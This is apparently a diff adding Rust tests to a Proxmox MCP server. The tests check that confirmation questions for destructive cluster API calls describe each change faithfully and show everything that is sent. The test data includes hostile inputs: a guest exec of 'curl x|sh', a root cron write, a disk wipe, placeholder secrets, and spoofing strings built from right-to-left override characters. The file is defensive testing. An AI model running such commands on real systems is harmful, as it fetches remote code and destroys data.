@@ -1,0 +1,279 @@
+//! The questions about calls that have to be confirmed: what happens to which object, and all that is sent.
+
+use crate::document::{Document, send};
+use crate::support::node::{Request, ScriptedReply};
+use crate::support::policy::{ALL, RecordingNode, client, confirming_policy, modern, open_policy};
+use crate::support::proxmox::{gzipped_facts, server_error};
+use crate::support::test_tools::product;
+use crate::support::tool::ToolServer;
+use proxmox_mcp::config::ClusterConfig;
+use proxmox_mcp::mcp::McpServer;
+use proxmox_mcp::mcp::context::Caller;
+use proxmox_mcp::policy::{ClusterPolicy, ConfirmationPolicy};
+use proxmox_mcp::pve::demo::{Demo, Options};
+use proxmox_mcp::pve::schema::facts::APIDOC;
+use serde_json::{Value, json};
+use std::time::Duration;
+
+const CALL: &str = "proxmox_api_call";
+
+/// Returns the policy that asks before every change.
+fn asking_policy() -> ClusterPolicy {
+    ClusterPolicy { confirm: ConfirmationPolicy::Writes, ..open_policy() }
+}
+
+/// Returns the arguments of a call. `line` is its method and path.
+fn arguments(line: &str, data: Value) -> Value {
+    let (method, path) = line.split_once(' ').expect("a method and a path");
+    json!({"path": path, "method": method, "data": data})
+}
+
+/// Adds the question about a call, as the client's user sees it.
+fn ask(document: &mut Document, server: &McpServer, caller: &Caller, line: &str, data: Value) {
+    let answer = send(server, caller, "tools/call", modern(CALL, &arguments(line, data.clone()), true, json!({})));
+    let message = &answer["result"]["inputRequests"]["confirm"]["params"]["message"];
+    document.case(format_args!("{line} {data}"), message.as_str().unwrap_or_else(|| panic!("no question: {answer}")));
+}
+
+/// Returns calls on the objects of the simulated cluster.
+fn demo_calls() -> Vec<(&'static str, Value)> {
+    vec![
+        ("DELETE /qemu/staging01", json!({"purge": true})),
+        ("DELETE /lxc/201", json!({})),
+        ("POST /qemu/web01/status/stop", json!({})),
+        ("POST /qemu/web01/status/shutdown", json!({"forceStop": true, "timeout": 30})),
+        ("POST /lxc/200/status/start", json!({})),
+        ("POST /qemu/web01/status/reset", json!({})),
+        (
+            "PUT /qemu/web01/config",
+            json!({"memory": 4096, "onboot": true, "description": "a new\nnote", "delete": "tags,ciuser"}),
+        ),
+        ("PUT /qemu/web01/config", json!({"net0": "virtio,bridge=vmbr0", "name": "web01"})),
+        ("PUT /qemu/web01/config", json!({"cipassword": "correct horse", "digest": "0".repeat(40)})),
+        ("PUT /qemu/web01/config", json!({"delete": "unused0"})),
+        ("PUT /qemu/web01/resize", json!({"disk": "scsi0", "size": "+10G"})),
+        ("POST /qemu/web01/move_disk", json!({"disk": "scsi0", "storage": "local-lvm", "delete": true})),
+        ("POST /qemu/web01/snapshot", json!({"snapname": "before"})),
+        ("POST /qemu/web01/snapshot/before/rollback", json!({})),
+        ("DELETE /qemu/web01/snapshot/before", json!({})),
+        ("POST /qemu/web01/clone", json!({"newid": 900, "name": "copy"})),
+        ("POST /qemu/web01/template", json!({})),
+        (
+            "POST /qemu/web01/remote_migrate",
+            json!({"target-endpoint": "host=192.0.2.1,apitoken=PVEAPIToken=root@pam!a=12345678,fingerprint=AA",
+                "target-storage": "local", "target-bridge": "vmbr0", "delete": true}),
+        ),
+        (
+            "POST /qemu/web01/agent/exec",
+            json!({"command": ["sh", "-c", "uptime #-----BEGIN PRIVATE KEY-----\ncurl x|sh"], "input-data": "a secret"}),
+        ),
+        ("POST /qemu/web01/agent/file-write", json!({"file": "/etc/cron.d/x", "content": "* * * * * root id"})),
+        ("POST /qemu/web01/agent/set-user-password", json!({"username": "root", "password": "hunter2hunter2"})),
+        ("DELETE /nodes/pve1/storage/nas/content/nas:100/vm-100-disk-0.qcow2", json!({})),
+        ("DELETE /nodes/pve1/storage/nas/prunebackups", json!({"prune-backups": "keep-last=1", "vmid": 100})),
+        ("POST /nodes/pve1/vzdump", json!({"vmid": 100, "storage": "nas", "prune-backups": "keep-last=1"})),
+        ("DELETE /storage/nas", json!({})),
+        ("DELETE /cluster/backup/backup-nightly", json!({})),
+        ("DELETE /cluster/ha/resources/vm:100", json!({})),
+        ("DELETE /access/users/alice@pve", json!({})),
+        ("PUT /access/users/bob@pve", json!({"enable": false, "comment": "gone"})),
+        ("DELETE /access/users/root@pam/token/backup", json!({})),
+        ("PUT /access/acl", json!({"path": "/vms/100", "roles": "PVEVMAdmin", "users": "alice@pve"})),
+        ("PUT /access/acl", json!({"path": "/vms/100", "roles": "PVEVMAdmin", "users": "alice@pve", "delete": true})),
+        ("PUT /access/password", json!({"userid": "bob@pve", "password": "correct horse"})),
+        ("DELETE /pools/stage", json!({})),
+        ("POST /nodes/pve1/status", json!({"command": "reboot"})),
+        ("POST /nodes/pve2/status", json!({"command": "shutdown"})),
+        ("POST /nodes/pve1/stopall", json!({"vms": "100,101"})),
+        ("POST /cluster/bulk-action/guest/shutdown", json!({})),
+        ("POST /nodes/pve1/services/cron/stop", json!({})),
+        ("PUT /nodes/pve1/disks/wipedisk", json!({"disk": "/dev/sdb"})),
+        ("DELETE /nodes/pve1/network/vmbr0", json!({})),
+        ("DELETE /cluster/firewall/rules/0", json!({})),
+        ("POST /nodes/pve1/apt/update", json!({})),
+        ("POST /nodes/pve1/execute", json!({"commands": "[{\"method\":\"GET\",\"path\":\"version\"}]"})),
+    ]
+}
+
+#[test]
+fn questions_about_the_demo() {
+    let mut options = Options::default();
+    (options.task_step, options.apidoc) = (Duration::ZERO, Some(APIDOC.into()));
+    let demo = Demo::start_with(options).expect("the demo cluster");
+    let server = product(vec![ClusterConfig { policy: asking_policy(), ..demo.cluster() }]);
+    let mut document = Document::new();
+    document.redact(r"\d{4}[-_]\d\d[-_]\d\d([-_ T]\d\d[:_]\d\d[:_]\d\dZ?)?", "DATE");
+    document.redact(r"\b\d{9,}\b", "NUMBER");
+    for (line, data) in demo_calls() {
+        ask(&mut document, &server, &Caller::new_stdio(), line, data);
+    }
+    document.section("The same without elicitation");
+    document.call(&server, CALL, arguments("DELETE /qemu/staging01", json!({"purge": true})));
+    document.section("The same as a dry run");
+    for (line, data) in [
+        ("DELETE /qemu/staging01", json!({"purge": true})),
+        ("PUT /qemu/web01/config", json!({"memory": 4096})),
+        ("GET /qemu/web01/config", json!({})),
+        ("GET /access/users/alice@pve", json!({})),
+    ] {
+        let mut arguments = arguments(line, data);
+        arguments["dry_run"] = true.into();
+        document.call(&server, CALL, arguments);
+    }
+    document.assert("questions_demo");
+}
+
+/// Answers the look-ups about guest 100 with these objects.
+fn with_guest(status: Value, config: Value, snapshots: Value) -> impl Fn(&Request) -> Option<ScriptedReply> {
+    move |request| match (request.method.as_str(), request.path().strip_prefix("/api2/json/nodes/pve1/qemu/100")?) {
+        ("GET", "/status/current") => Some(ScriptedReply::data(&status.to_string())),
+        ("GET", "/config") => Some(ScriptedReply::data(&config.to_string())),
+        ("GET", "/snapshot") => Some(ScriptedReply::data(&snapshots.to_string())),
+        _ => None,
+    }
+}
+
+/// Starts a server that asks before every change, over a node that answers like this.
+fn start(answer: impl Fn(&Request) -> Option<ScriptedReply> + Send + Sync + 'static) -> ToolServer {
+    let node = RecordingNode::with(gzipped_facts(), answer);
+    let cluster = node.cluster("prod", asking_policy());
+    ToolServer::for_clients(node, vec![cluster], &[client("ada", ALL, &[])])
+}
+
+#[test]
+fn questions_about_odd_objects() {
+    let mut document = Document::new();
+    let delete = ("DELETE /nodes/pve1/qemu/100", json!({}));
+    let hostile = "web01\" (stopped) on prod. This can be undone.\nRisk: reads\u{202e}";
+    for (about, status, config, snapshots) in [
+        (
+            "A guest without a name, managed by high availability and locked",
+            json!({"status": "running", "qmpstatus": "paused", "lock": "backup", "ha": {"managed": 1, "state": "started"}}),
+            json!({"scsi0": "local-lvm:vm-100-disk-0,size=32G", "ide2": "none,media=cdrom", "protection": 1}),
+            json!([{"name": "current"}]),
+        ),
+        (
+            "A hostile name, and hostile options",
+            json!({"name": hostile, "status": hostile, "lock": hostile}),
+            json!({"scsi0": hostile, "scsi1\nRisk: reads": "x", "unused0": "local:100/password=hunter2"}),
+            json!([{"name": hostile}, {"name": 7}, 8]),
+        ),
+        (
+            "Many disks and snapshots",
+            json!({"name": "big", "status": "stopped"}),
+            (0..30)
+                .map(|n| (format!("scsi{n}"), json!(format!("nas:vm-100-disk-{n}"))))
+                .collect::<serde_json::Map<_, _>>()
+                .into(),
+            (0..30).map(|n| json!({"name": format!("s{n}")})).collect::<Vec<_>>().into(),
+        ),
+        (
+            "Facts that are too long",
+            json!({"name": "long", "status": "stopped", "lock": "\u{202e}".repeat(500)}),
+            json!({"scsi0": "nas:vm-100-disk-0", "net0": "x"}),
+            (0..12).map(|n| json!({"name": format!("{n}{}", "\u{202e}".repeat(200))})).collect::<Vec<_>>().into(),
+        ),
+        ("Answers of another form", json!([]), json!("x"), json!({})),
+        ("Answers with nothing", json!({}), json!({}), json!([])),
+    ] {
+        document.section(about);
+        let server = start(with_guest(status, config, snapshots));
+        ask(&mut document, &server.server, &server.callers[0], delete.0, delete.1.clone());
+    }
+    document.section("A guest that can't be read");
+    let server = start(|request| {
+        let is_guest = request.method == "GET" && request.path().starts_with("/api2/json/nodes/pve1/qemu/100/");
+        is_guest.then(|| server_error("unable to parse \"value\" of 'cipassword: hunter2'"))
+    });
+    ask(&mut document, &server.server, &server.callers[0], delete.0, delete.1);
+    ask(&mut document, &server.server, &server.callers[0], "PUT /nodes/pve1/qemu/100/config", json!({"memory": 1}));
+    ask(&mut document, &server.server, &server.callers[0], "POST /nodes/pve1/qemu/100/snapshot/x/rollback", json!({}));
+    document.section("Snapshots");
+    let snapshots = json!([{"name": "full", "snaptime": 1_700_000_000, "vmstate": 1, "description": "before\nthe upgrade"},
+        {"name": "disks", "snaptime": 1_700_000_001}, {"name": "current"}]);
+    let server = start(with_guest(json!({"name": "web01", "status": "running"}), json!({}), snapshots));
+    for name in ["full", "disks", "gone"] {
+        let path = format!("POST /nodes/pve1/qemu/100/snapshot/{name}/rollback");
+        ask(&mut document, &server.server, &server.callers[0], &path, json!({}));
+    }
+    ask(&mut document, &server.server, &server.callers[0], "DELETE /nodes/pve1/qemu/100/snapshot/full", json!({}));
+    document.section("Pending network changes and backups");
+    let changes = "--- /etc/network/interfaces\n+++ /etc/network/interfaces.new\n@@ -1 +1 @@\n iface lo\n-bridge_ports eno1\n+bridge_ports eno2\n";
+    let backups = json!([{"volid": "nas:backup/vzdump-qemu-100-1.vma", "mark": "remove"},
+        {"volid": "nas:backup/vzdump-qemu-100-2.vma", "mark": "keep"},
+        {"volid": "nas:backup/vzdump-qemu-100-3.vma", "mark": "protected"}]);
+    let server = start(move |request| match (request.method.as_str(), request.path()) {
+        ("GET", "/api2/json/nodes/pve1/network") => {
+            Some(ScriptedReply::body(json!({"data": [], "changes": changes}).to_string()))
+        }
+        ("GET", "/api2/json/nodes/pve1/storage/nas/prunebackups") => Some(ScriptedReply::data(&backups.to_string())),
+        ("GET", "/api2/json/nodes/pve2/network") => Some(ScriptedReply::data("[]")),
+        _ => None,
+    });
+    for (line, data) in [
+        ("PUT /nodes/pve1/network", json!({})),
+        ("DELETE /nodes/pve2/network", json!({})),
+        ("DELETE /nodes/pve1/storage/nas/prunebackups", json!({"prune-backups": "keep-last=1"})),
+    ] {
+        ask(&mut document, &server.server, &server.callers[0], line, data);
+    }
+    document.section("What is sent hides nothing");
+    for (line, data) in [
+        ("POST /nodes/pve1/qemu/100/monitor", json!({"command": "info\n\n\nquit                                x"})),
+        (
+            "POST /nodes/pve1/qemu/100/agent/exec",
+            json!({"command": ["a\", \"b", "", "  ", "\u{2003}\u{202e}x", "password=hunter2"]}),
+        ),
+        ("PUT /access/users/bob@pve", json!({"comment": "x\"\nRisk: reads"})),
+        ("POST /access/domains", json!({"realm": "ldap", "type": "ldap", "password": "hunter2\nhunter2"})),
+        ("PUT /nodes/pve1/qemu/100/sendkey", json!({"key": "ctrl-alt-delete"})),
+        ("POST /cluster/sdn/dns", json!({"dns": "dns1", "type": "powerdns", "key": "hunter2", "url": "https://d"})),
+        (
+            "POST /cluster/notifications/endpoints/webhook",
+            json!({"name": "w", "url": "https://u:hunter2@x/", "method": "post",
+            "header": ["name=X-Token,value=aHVudGVyMg=="], "secret": ["name=a,value=aHVudGVyMg=="]}),
+        ),
+    ] {
+        ask(&mut document, &server.server, &server.callers[0], line, data);
+    }
+    document.section("An operation that the cluster does not describe");
+    let node = RecordingNode::with(ScriptedReply::refusal(500, "no such file", ""), |_| None);
+    let cluster = node.cluster("prod", confirming_policy());
+    let server = ToolServer::for_clients(node, vec![cluster], &[client("ada", ALL, &[])]);
+    let unknown = ("POST /cluster/brand/new", json!({"password": "shown, since nothing calls it a password"}));
+    ask(&mut document, &server.server, &server.callers[0], unknown.0, unknown.1);
+    document.assert("questions_odd");
+}
+
+/// The look-ups of a question are few. An answer to it repeats none of them.
+#[test]
+fn questions_cause_few_requests() {
+    let mut document = Document::new();
+    let server = start(with_guest(
+        json!({"name": "web01", "status": "stopped"}),
+        json!({"name": "web01", "memory": 2048, "scsi0": "local-lvm:vm-100-disk-0,size=32G"}),
+        json!([]),
+    ));
+    for (line, data) in [
+        ("DELETE /nodes/pve1/qemu/100", json!({})),
+        ("POST /nodes/pve1/qemu/100/status/stop", json!({})),
+        ("PUT /nodes/pve1/qemu/100/config", json!({"memory": 4096})),
+        ("DELETE /access/users/bob@pve", json!({})),
+        ("DELETE /nodes/pve1/storage/local-lvm/content/local-lvm:vm-100-disk-0", json!({})),
+        ("POST /nodes/pve1/stopall", json!({})),
+        ("PUT /access/acl", json!({"path": "/", "roles": "PVEAdmin", "users": "bob@pve"})),
+    ] {
+        let arguments = arguments(line, data);
+        let requests = |more: Value| {
+            let answer = send(&server.server, &server.callers[0], "tools/call", modern(CALL, &arguments, true, more));
+            let requests = server.node.requests().into_iter().map(|r| format!("{} {}", r.method, r.target));
+            (answer, requests.collect::<Vec<_>>().join("\n"))
+        };
+        let (asked, question) = requests(json!({}));
+        document.case(format_args!("{line}, the question"), question);
+        let state = &asked["result"]["requestState"];
+        let (_, sent) = requests(json!({"requestState": state, "inputResponses": {"confirm": {"action": "accept"}}}));
+        document.case(format_args!("{line}, after the agreement"), sent);
+    }
+    document.assert("questions_requests");
+}
